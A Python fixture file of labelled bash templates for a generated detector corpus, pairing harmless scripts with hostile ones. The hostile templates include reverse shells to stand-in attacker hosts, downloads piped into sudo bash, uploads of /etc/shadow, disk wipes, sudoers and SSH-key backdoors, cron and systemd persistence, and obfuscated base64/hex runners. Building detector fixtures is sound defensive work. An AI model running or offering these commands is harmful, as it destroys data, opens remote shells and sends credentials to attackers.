"""Labelled script templates and parameter pools for the generated corpus.

Written for this project as detector fixtures: every signature has a template
that fires it and a near miss that does not.  Hosts are reserved example names.
``{n}`` is the row key, ``{pad}`` a run of neutral lines of varying length.
"""

POOLS = {
    "dir": ["/srv/reports", "$HOME/work", "/opt/tools", "./out", "/data/landing", "/var/spool/jobs",
            "$HOME/notes", "/mnt/share", "/usr/local/share/kit", "./cache"],
    "file": ["summary.csv", "events.json", "daily.log", "draft.md", "snapshot.tar.gz",
             "inventory.tsv", "plan.yaml", "dump.sql"],
    "pkg": ["tree", "rsync", "unzip", "ripgrep", "postgresql-client", "make", "zsh", "ca-certificates"],
    "svc": ["nginx", "chrony", "postgresql", "haproxy", "grafana", "redis"],
    "host": ["malware.test", "evil-host.test", "attacker.example.com", "bad-actor.example.org",
             "c2.example.net", "185.243.5.7", "203.0.113.9", "198.51.100.7", "relay.example.invalid"],
    "port": ["4444", "8443", "9009", "1337", "53"],
    "user": ["maria", "tomek", "release", "builder", "reader", "oncall"],
    "dev": ["sda", "sdb1", "nvme0n1", "vdb", "mmcblk0"],
}

# Rows out of 420 that fall into each category.
CATEGORY_SHARES = [("safe_everyday", 95), ("malicious", 110), ("ai_generated", 75),
                   ("obfuscated", 55), ("sysadmin", 85)]

_ENV = "#!/usr/bin/env bash\n"
_BASH = "#!/bin/bash\n"

# (template, category, label, rationale, body)
TEMPLATES = [
    # -- safe_everyday ------------------------------------------------------
    ("column_total", "safe_everyday", 0, "arithmetic over one column",
     _BASH + "# Sum the third column of a table\nawk -F, 'NR > 1 { t += $3 } END { print t, {n} }' \"{dir}/{file}\"\n{pad}"),
    ("word_ranking", "safe_everyday", 0, "long pipe of text tools",
     "#!/bin/sh\n# Most used words of a note\nfold -w 1 {file} | paste -sd '' | grep -oE '[a-z]+' | sort | uniq -c | sort -k1,1nr > words-{n}.txt\n{pad}"),
    ("tea_timer", "safe_everyday", 0, "countdown with arithmetic",
     _BASH + "# Countdown for the kitchen\nleft=$(( {n} % 7 + 1 ))\nwhile (( left > 0 )); do\n  printf '%d min\\n' \"$left\"\n  sleep 60\n  (( left-- ))\ndone\n{pad}"),
    ("thumbnail_sheet", "safe_everyday", 0, "pictures resized next to their originals",
     _ENV + "# One contact sheet of holiday pictures\nmontage -geometry 160x120+4+4 {dir}/*.jpg \"sheet-{n}.png\" && identify sheet-{n}.png\n{pad}"),
    ("chunked_table", "safe_everyday", 0, "a table cut into numbered parts",
     "#!/bin/sh\n# Cut a long table for a slow link\nsplit -d -l 2500 \"{dir}/{file}\" part-{n}-\nls part-{n}-* | nl\n{pad}"),
    ("field_picker", "safe_everyday", 0, "one field of a local document",
     _BASH + "# Titles of open entries\njq -r '.items[] | select(.open) | .title' {dir}/events.json | sort > titles-{n}.txt\n{pad}"),
    ("choir_schedule", "safe_everyday", 0, "dates computed and formatted",
     _BASH + "# Next four rehearsals\nfor w in 1 2 3 4; do date -d \"+$w week\" '+%A %d %B'; done | tee rehearsal-{n}.txt\n{pad}"),
    ("draft_diff", "safe_everyday", 0, "two drafts compared",
     _BASH + "# What changed since the last draft\ndiff -u <(sort {dir}/draft.md) <(sort draft-{n}.md) | less -R\n{pad}"),
    ("release_reader", "safe_everyday", 0, "near miss: download piped into a reader, not a shell",
     _BASH + "# Version announced on a public page\ncurl -fsS https://news.example.com/releases/{n} | jq -r '.version'\n{pad}"),
    ("scratch_trap", "safe_everyday", 0, "hard negative: own scratch folder removed on exit",
     _ENV + "set -eu\n# Scratch space that goes with the script\nscratch=$(mktemp -d)\ntrap 'rm -rf -- \"$scratch\"' EXIT\n"
     "sort -T \"$scratch\" \"{dir}/{file}\" > sorted-{n}.txt\n{pad}"),
    ("signed_page", "safe_everyday", 0, "hard negative: signature checked, nothing run",
     _ENV + "set -e\n# Read a page only if its signature holds\nwget -q -P /tmp https://pages.example.com/{n}.html https://pages.example.com/{n}.html.asc\n"
     "gpg --verify /tmp/{n}.html.asc /tmp/{n}.html && lynx -dump /tmp/{n}.html\n{pad}"),
    ("clock_zone", "safe_everyday", 0, "hard negative: privileged but harmless setting",
     _BASH + "# The lab machine keeps universal time\nsudo timedatectl set-timezone UTC\ntimedatectl show -p Timezone; : {n}\n{pad}"),
    ("remove_old_folder", "safe_everyday", 0, "near miss: single removal flag",
     _BASH + "# Drop last month\nrm -r \"{dir}/old-{n}\"\nchmod 0755 \"{dir}\"\n{pad}"),
    ("write_settings", "safe_everyday", 0, "here-document into a user file",
     _ENV + "# Write a settings file\ncat <<EOF > \"$HOME/.config/kit-{n}.ini\"\nname={user}\nroot={dir}\nEOF\n{pad}"),
    ("parallel_sleep", "safe_everyday", 0, "two background jobs and a wait",
     "sleep 2 & sleep 3 &\nwait\nprintf '%s\\n' \"done {n}\" >> {file}\n{pad}"),
    ("quoted_words", "safe_everyday", 0, "quoting only",
     "LANG=C TZ=UTC date -u\necho \"it's {n}\" 'a \"b\"' c\\ d # trailing note\necho don't stop\n{pad}"),
    ("case_fold", "safe_everyday", 0, "near miss: tr without a class",
     "#!/bin/sh\ntr a-z A-Z < {file} | sort -u > upper-{n}.txt\n{pad}"),
    ("scratch_sync", "safe_everyday", 0, "copy between own folders",
     "rsync -av --delete {dir}/ ~/mirror-{n}/\n~/bin/report.sh {file}\n{pad}"),
    # -- malicious ------------------------------------------------------------
    ("wipe_root", "malicious", 1, "recursive removal of the root",
     _BASH + "sudo rm -rf --no-preserve-root /\n# {n}\n{pad}"),
    ("wipe_home", "malicious", 1, "recursive removal of the home folder",
     "rm -f -r $HOME\nrm -rf ~ \n: {n}\n{pad}"),
    ("remote_pipe", "malicious", 1, "download piped into a privileged shell",
     _BASH + "curl -fsSL http://{host}/{n}/boot.sh | sudo bash\n{pad}"),
    ("remote_stream", "malicious", 1, "streamed download into a shell",
     "wget -q -O - http://{host}/{n} | sh\n{pad}"),
    ("remote_eval", "malicious", 1, "eval of a download",
     _BASH + "eval \"$(curl -s http://{host}/{n}.txt)\"\n{pad}"),
    ("tcp_device_shell", "malicious", 1, "shell on a TCP pseudo-device",
     _BASH + "bash -i >& /dev/tcp/{host}/{port} 0>&1\n{pad}"),
    ("netcat_shell", "malicious", 1, "netcat that starts a shell",
     "nc -e /bin/sh {host} {port} # {n}\n{pad}"),
    ("socket_one_liner", "malicious", 1, "interpreter one-liner that opens a socket",
     _BASH + "python3 -c 'import socket,pty;s=socket.socket();s.connect((\"{host}\",{port}));pty.spawn(\"sh\")'\n{pad}"),
    ("function_bomb", "malicious", 1, "self-replicating function",
     ":(){ :|:& };:\n# {n}\n"),
    ("loop_spawner", "malicious", 1, "endless loop with background jobs",
     _BASH + "while true; do sh /tmp/w-{n}.sh &\ndone\n{pad}"),
    ("raw_disk_write", "malicious", 1, "raw write over a disk",
     _BASH + "sudo dd if=/dev/urandom of=/dev/{dev} bs=4M\n: {n}\n{pad}"),
    ("redirect_disk", "malicious", 1, "redirect onto a disk",
     "cat /dev/zero > /dev/sda; sync {n}\n{pad}"),
    ("format_word_joined", "malicious", 1, "format of a device below an image folder",
     _BASH + "mkfs.ext4 -F img{n}/dev/{dev}\nshred -u {file}\n{pad}"),
    ("format_plain", "malicious", 1, "format of a device",
     _BASH + "mkfs.xfs -f /dev/{dev}\nwipefs -a /dev/{dev}\n: {n}\n{pad}"),
    ("login_key", "malicious", 1, "login key added",
     _BASH + "mkdir -p ~/.ssh\necho 'ssh-ed25519 KEY{n} visitor' >> ~/.ssh/authorized_keys\n{pad}"),
    ("sudo_rule", "malicious", 1, "password-free elevation",
     _BASH + "echo '{user} ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\n: {n}\n{pad}"),
    ("upload_file", "malicious", 1, "local file uploaded",
     "curl -s -F f=@/etc/passwd http://{host}/in/{n}\n{pad}"),
    ("send_shadow", "malicious", 1, "credential file sent away",
     _BASH + "cat /etc/shadow | nc {host} {port}\n: {n}\n{pad}"),
    ("cron_pull", "malicious", 1, "scheduled download and run",
     _BASH + "(crontab -l; echo '*/9 * * * * curl -s http://{host}/{n} | sh') | crontab -\n{pad}"),
    ("log_wipe", "malicious", 1, "logs and history removed",
     "> /var/log/auth.log; rm -f /var/log/wtmp\nhistory -c\nunset HISTFILE\n: {n}\n{pad}"),
    ("setuid_copy", "malicious", 1, "setuid shell copy",
     "cp /bin/bash /tmp/.k{n}; chmod 4755 /tmp/.k{n}\n{pad}"),
    ("guards_off", "malicious", 1, "firewall and audit switched off",
     _BASH + "iptables -F\nufw disable\nsystemctl stop auditd\nservice apparmor stop\n: {n}\n{pad}"),
    ("boot_service", "malicious", 1, "service planted",
     "printf '[Service]\\nExecStart=/tmp/.p{n}\\n' > /etc/systemd/system/kit.service\nsystemctl enable kit\n{pad}"),
    ("startup_files", "malicious", 1, "startup files written",
     "echo '/tmp/.p{n} &' >> /etc/rc.local\necho 'sh /tmp/.p{n}' >> ~/.bashrc\n{pad}"),
    ("hosts_entry", "malicious", 1, "name resolution redirected",
     _BASH + "echo '203.0.113.9 updates.example.com' >> /etc/hosts\n: {n}\n{pad}"),
    ("staged_run", "malicious", 1, "hard positive: download, mark, run",
     _BASH + "payload=/tmp/.s{n}\nwget -q http://{host}/bin -O $payload\nchmod +x $payload\n$payload\n{pad}"),
    ("find_delete_all", "malicious", 1, "hard positive: deletion without rm",
     _BASH + "find / -xdev -type f -mtime +0 -delete 2>/dev/null\n: {n}\n"),
    ("deferred_removal", "malicious", 1, "hard positive: removal left to a later job",
     "echo 'rm -rf /srv/* /data/*' | at now + {port} minutes\n: {n}\n{pad}"),
    # -- ai_generated ---------------------------------------------------------
    ("explained_install", "ai_generated", 0, "verbose and harmless install",
     _ENV + "# This script installs {pkg} from the official archive.\n# It stops at the first error.\n"
     "set -euo pipefail\nsudo apt-get update\nsudo apt-get install -y {pkg}\necho \"{pkg} is ready ({n})\"\n{pad}"),
    ("explained_sort", "ai_generated", 0, "moves files inside one folder",
     _ENV + "# Sorts files by suffix inside one folder.\ncd \"{dir}\" || exit 1\nfor s in txt md pdf; do\n"
     "  mkdir -p \"$s\"\n  mv -n ./*.\"$s\" \"$s\"/ 2>/dev/null || true\ndone\n{pad}"),
    ("explained_health", "ai_generated", 0, "read-only health summary",
     _ENV + "# Prints a short health summary.\necho \"load: $(uptime)\"\necho \"memory: $(free -m | tail -n 2)\"\ndf -h / \n{pad}"),
    ("explained_request", "ai_generated", 0, "reads a public interface",
     _ENV + "# Reads one value from a public interface.\nval=`curl -s https://api.example.com/v1/items/{n}`\n"
     "echo \"${val}\" | python3 -m json.tool\n{pad}"),
    ("quick_setup", "ai_generated", 1, "suggested one-line installer",
     _ENV + "# Quick setup: fetches and runs the installer for you.\nwget -qO- https://{host}/setup-{n}.sh | bash\n{pad}"),
    ("open_permissions", "ai_generated", 1, "suggested world-writable tree",
     _ENV + "# If you see permission errors, open everything up.\nsudo chmod -R 777 /var\nsudo chmod 0777 {dir}\n: {n}\n{pad}"),
    ("disable_guard", "ai_generated", 1, "suggested firewall removal",
     _ENV + "# Ports blocked? Turn the filter off.\nsudo iptables --flush && sudo systemctl stop firewalld\n: {n}\n{pad}"),
    ("free_space", "ai_generated", 1, "suggested removal of system folders",
     _ENV + "# Free disk space quickly.\nsudo rm -rf /var/log/* /usr/share/doc\n: {n}\n{pad}"),
    ("unset_variable", "ai_generated", 1, "hard positive: unset variable before a root path",
     _ENV + "# Clean the work folder.\nrm -rf $WORK_{n}/ /\n{pad}"),
    # -- obfuscated -----------------------------------------------------------
    ("encoded_pipe", "obfuscated", 1, "decoded text piped into a shell",
     "echo ZWNobyB{n}aGk= | base64 -d | bash\n{pad}"),
    ("encoded_var", "obfuscated", 1, "decoded text evaluated",
     "p=$(echo ZWNobyBoaQ{n} | base64 --decode)\neval \"$p\"\n{pad}"),
    ("hex_text", "obfuscated", 1, "hex text piped into a shell",
     "printf '\\x65\\x63\\x68\\x6f\\x20\\x68' | sh\n: {n}\n{pad}"),
    ("octal_text", "obfuscated", 1, "octal text run as a command",
     "$(printf '\\145\\143\\150\\157') {n}\n{pad}"),
    ("reversed_text", "obfuscated", 1, "reversed text run as a command",
     "echo '{n} ohce' | rev | sh\n$(echo 'sl' | rev) /tmp\n{pad}"),
    ("joined_parts", "obfuscated", 1, "command joined from parts",
     "a=cu; b=rl; c='http://{host}/{n}'\neval \"$a$b -s $c | ba''sh\"\n{pad}"),
    ("space_variable", "obfuscated", 1, "separator variable instead of blanks",
     "IFS=,; cmd='wget,-q,http://{host}/{n}'; $cmd\n`echo l``echo s`\n{pad}"),
    ("class_rotation", "obfuscated", 1, "rotated letters run as a command",
     "echo 'rpub {n}' | tr '[a-z]' '[n-za-m]' | bash\n{pad}"),
    ("hex_dump_file", "obfuscated", 1, "hex dump turned into a program",
     "echo '\\x7f\\x45\\x4c\\x46\\x02' > h{n}; xxd -r -p h{n} > p{n}; chmod u+s p{n}; ./p{n}\n"),
    # -- sysadmin -------------------------------------------------------------
    ("rotate_logs", "sysadmin", 0, "compresses old logs",
     _ENV + "set -o pipefail\n# Compress logs older than a week\nfind /var/log -name '*.log' -mtime +7 -print0 | xargs -0 -r gzip\n: {n}\n{pad}"),
    ("add_account", "sysadmin", 0, "adds one account",
     _BASH + "# Add one account\nsudo useradd -m {user}{n}\nsudo passwd --expire {user}{n}\n{pad}"),
    ("deploy_config", "sysadmin", 0, "hard negative: reviewed configuration deployed",
     _ENV + "set -euo pipefail\n# Deploy the reviewed configuration\nsudo install -m 0644 {svc}.conf /etc/{svc}/{svc}.conf\n"
     "sudo systemctl reload {svc}\n: {n}\n{pad}"),
    ("nightly_copy", "sysadmin", 0, "copy to a backup host",
     _BASH + "# Nightly copy\nrsync -a --delete {dir}/ backup.example.com:/vol/{n}/\n"
     "ssh backup.example.com 'df -h /vol'\n{pad}"),
    ("web_modes", "sysadmin", 0, "hard negative: recursive mode change of a web root",
     _ENV + "# Normal modes for a web root\nsudo chmod -R 755 /srv/www/{n}\nsudo chown -R www-data: /srv/www/{n}\n{pad}"),
    ("image_copy", "sysadmin", 0, "hard negative: file-to-file image copy",
     _BASH + "# Copy an image between files\ndd if=base.img of=./copy-{n}.img bs=1M status=progress\n{pad}"),
    ("restart_check", "sysadmin", 0, "restart and check",
     _BASH + "sudo systemctl restart {svc} && systemctl is-active {svc} || journalctl -u {svc} -n 20 2>> err-{n}.log\n{pad}"),
    ("disk_report", "sysadmin", 0, "mails a disk report",
     _BASH + "# Disk report\ndf -hT | mail -s \"disk {n}\" {user}@example.com\n{pad}"),
    ("cron_listing", "sysadmin", 0, "near miss: crontab named without a change",
     "#!/bin/sh\n# Show what is scheduled\nls /etc/cron.d; systemctl list-timers | head\necho crontab {n}\n{pad}"),
    ("mount_share", "sysadmin", 0, "mounts a share",
     _ENV + "# Mount a share\nsudo mount -t nfs files.example.com:/exp/{n} /mnt/share && ls /mnt/share > /dev/null 2>&1\n{pad}"),
    ("open_etc", "sysadmin", 1, "world-writable configuration",
     _BASH + "sudo chmod -R 777 /etc\n: {n}\n{pad}"),
    ("clone_disk", "sysadmin", 1, "clone over a disk without a check",
     _BASH + "sudo dd if=/dev/sda of=/dev/{dev} bs=64K conv=noerror\n: {n}\n{pad}"),
    ("cron_drop", "sysadmin", 1, "job dropped into a system folder",
     _BASH + "echo '@reboot root /tmp/.c{n}' > /etc/cron.d/kit\necho 'x' >> /etc/crontab\n{pad}"),
]

PAD_LINE = "echo step {n}\n"
PAD_MAX = 13
